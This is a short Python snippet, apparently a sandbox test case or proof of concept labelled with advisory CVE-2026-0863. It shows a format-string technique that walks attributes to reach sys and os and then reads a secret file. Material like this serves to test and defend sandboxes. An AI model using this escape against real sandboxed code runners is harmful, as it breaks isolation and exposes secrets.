# class: format strings
# technique: a format field walks attributes, the AttributeError keeps what it was about
# advisory: CVE-2026-0863
# layers: analyzer, interpreter, landlock, seccomp, identity
# code: user
# witness: secret
host = _items[0]["json"]
try:
    "{0.__init__.__globals__[sys].nothing}".format(quit)
except AttributeError as error:
    g = {"sys": error.obj}
os = g["sys"].modules["os"]
return [{"json": {"reached": os.read(os.open(host["secret"], 0), 4096).decode()}}]
